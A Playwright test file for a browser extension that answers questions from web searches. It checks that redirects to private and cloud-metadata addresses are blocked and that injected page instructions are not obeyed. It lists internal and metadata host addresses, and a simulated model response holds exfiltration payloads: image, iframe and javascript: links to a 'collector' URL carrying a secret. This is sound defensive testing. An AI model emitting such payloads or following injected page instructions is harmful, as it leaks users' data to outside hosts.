import { expect, test } from '@playwright/test';
import { callBackground } from '../../../scripts/lib/call-background';
import type { SampleSession } from '../../../scripts/lib/sample-session';
import { chips, lastTurn, notice, sourceList, sources, turns } from '../support/elements';
import { type GatedModel, startGatedModel } from '../support/gated-model';
import { ask, expectSentence, openAllowedProduct, readLink, storedAnswer, useModel } from '../support/product';

const secret = 'heron-plank-ninety';
let session: SampleSession;
let model: GatedModel;

test.beforeAll(async () => {
  model = await startGatedModel();
  session = await openAllowedProduct();
});
test.afterAll(async () => {
  await session?.close();
  await model?.close();
});

/** Asks, and waits for the end of the answer. @returns the answer as it is stored */
async function askToTheEnd(question: string) {
  const { panel } = session;
  await panel.getByRole('button', { name: 'New thread' }).click();
  await ask(panel, question);
  await expect(sourceList(panel)).toBeVisible();
  return storedAnswer(panel);
}

const privateRequests = () => session.sampleWeb.requests.filter(({ host }) => host === '127.0.0.1');
const statusOf = (path: string, sources: { url: string; status: string }[]) =>
  sources.find(({ url }) => url.endsWith(path))?.status;

test('a page that redirects to a private address is not read, its server is never reached, the answer goes on', async () => {
  const { panel, sampleWeb } = session;
  const answer = await askToTheEnd('Which barometer readings and gale warnings of the Corrin Point station are free?');
  expect(sampleWeb.requests).toContainEqual({ host: 'shortlink.sample.example', path: '/weather-archive' });
  expect(privateRequests()).toEqual([]);
  expect(statusOf('/weather-archive', answer.sources)).toBe('listed');
  expect(answer.stopReason).toBe('stop');
  expect(answer.sources.some(({ status }) => status === 'read')).toBe(true);
  await expect(notice(panel, 'could not be read')).toBeVisible();
  await expect(notice(panel, 'shortlink.sample.example')).toBeVisible();
  await expect(turns(panel)).not.toContainText(secret);
});

test('nor one that redirects to the address of cloud metadata', async () => {
  const answer = await askToTheEnd(
    'When were the instruments of the Corrin Point station calibrated, what mast heights?',
  );
  expect(session.sampleWeb.requests).toContainEqual({ host: 'shortlink.sample.example', path: '/station-metadata' });
  expect(statusOf('/station-metadata', answer.sources)).toBe('listed');
  expect(answer.receipt.reads.find(({ url }) => url.endsWith('/station-metadata'))?.ok).toBe(false);
  expect(answer.stopReason).toBe('stop');
});

test('a page that redirects to the address of a connection is thrown away unread', async () => {
  const { panel, sampleWeb } = session;
  // Requests there are allowed now: it is an address that the person entered.
  const settings = { baseUrl: `http://127.0.0.1:${sampleWeb.port}` };
  const connection = { id: 'lan', providerId: 'searxng', label: 'LAN', settings };
  expect(await callBackground(panel, 'save-connection', { connection, secrets: {} })).toEqual({ ok: true });
  const worker = await session.browser.serviceWorker();
  await expect
    .poll(() => worker.evaluate(async () => JSON.stringify(await chrome.declarativeNetRequest.getSessionRules())))
    .toContain(settings.baseUrl);

  const answer = await askToTheEnd('Which barometer readings and gale warnings of the Corrin Point station are free?');
  expect(privateRequests().length).toBeGreaterThan(0);
  expect(statusOf('/weather-archive', answer.sources)).toBe('listed');
  expect(JSON.stringify(answer)).not.toContain(secret);
  await callBackground(panel, 'remove-connection', { connectionId: 'lan' });
});

test('the browser takes every rule, and blocks by them what the URL guard refuses', async () => {
  const { panel, browser } = session;
  const worker = await browser.serviceWorker();
  const refused = await worker.evaluate(async () => {
    const rules = await chrome.declarativeNetRequest.getSessionRules();
    const filters = rules.flatMap(({ condition }) => condition.regexFilter ?? []);
    const answers = filters.map((regex) => chrome.declarativeNetRequest.isRegexSupported({ regex }));
    const unsupported = (await Promise.all(answers)).filter(({ isSupported }) => !isSupported);
    return { count: filters.length, unsupported };
  });
  expect(refused.unsupported).toEqual([]);
  expect(refused.count).toBeGreaterThan(20);

  const failures = new Map<string, string | undefined>();
  panel.on('requestfailed', (request) => failures.set(request.url(), request.failure()?.errorText));
  const blocked = ['127.0.0.1', 'localhost.', 'router', 'printer.local.', 'wiki.corp', 'nas.home.arpa', 'metadata.']
    .concat([
      '192.0.0.192',
      '198.19.0.1',
      '168.63.129.16',
      '10.0.0.1.nip.io',
      '[::1]',
      '[::ffff:10.0.0.1]',
      'a..example',
    ])
    .map((host) => `http://${host}/`);
  const passing = ['unknown.example', 'localhost.unknown.example', 'nip.io.unknown.example'].map(
    (host) => `http://${host}/`,
  );
  await panel.evaluate((urls) => Promise.allSettled(urls.map((url) => fetch(url))), [...blocked, ...passing]);
  const errorsOf = (urls: string[]) => [...new Set(urls.map((url) => failures.get(new URL(url).href)))];
  await expect.poll(() => errorsOf(blocked)).toEqual(['net::ERR_BLOCKED_BY_CLIENT']);
  await expect.poll(() => errorsOf(passing)).toEqual(['net::ERR_NAME_NOT_RESOLVED']);
});

test('a link that leads in a circle gets a sentence', async () => {
  const { panel, sampleWeb } = session;
  await readLink(session, `${sampleWeb.origin('shortlink')}/loop`);
  await expectSentence(panel.getByRole('alert'), 'shortlink.sample.example');
});

test('what a page tells machines to do is not done', async () => {
  const { panel, sampleWeb } = session;
  const answer = await askToTheEnd('How much citric acid descales a kettle, and for how many minutes?');
  expect(statusOf('/descaling-a-kettle', answer.sources)).toBe('read');
  expect(sampleWeb.requests.filter(({ host }) => host.startsWith('collector'))).toEqual([]);
  await expect(chips(panel).first()).toBeVisible();
});

test('showing an answer makes no request, whatever the model writes', async () => {
  const { panel, sampleWeb } = session;
  await useModel(session, model.baseUrl);
  await panel.getByRole('button', { name: 'New thread' }).click();
  const requested: string[] = [];
  panel.on('request', (request) => requested.push(request.url()));
  const leak = `${sampleWeb.origin('collector')}/collect?c=secret`;
  await ask(panel, 'What does a kettle look like?');
  const call = await model.nextCall();
  call.say(`Here it is: ![a kettle](${leak})\n\n<img src="${leak}"><iframe src="${leak}"></iframe>\n\n`);
  call.say(`[more](javascript:fetch('${leak}')) and [the page](${leak}).\n\nThat is all.`);
  const uri = `${sampleWeb.origin('kettlefix')}/descaling-a-kettle`;
  const content = { parts: [{ text: '' }] };
  const groundingMetadata = { groundingChunks: [{ web: { uri, title: 'KettleFix' } }], groundingSupports: [] };
  call.finish({ candidates: [{ content, finishReason: 'STOP', groundingMetadata }] });
  await expect(sources(panel)).toHaveCount(1);
  await expect(lastTurn(panel)).toContainText('That is all.');
  await lastTurn(panel).hover();
  expect(await lastTurn(panel).locator(':is(img, iframe, script, [href^="javascript"])').count()).toBe(0);
  expect(requested.filter((url) => url.startsWith('http'))).toEqual([]);
  expect(sampleWeb.requests.filter(({ host }) => host.startsWith('collector'))).toEqual([]);
});
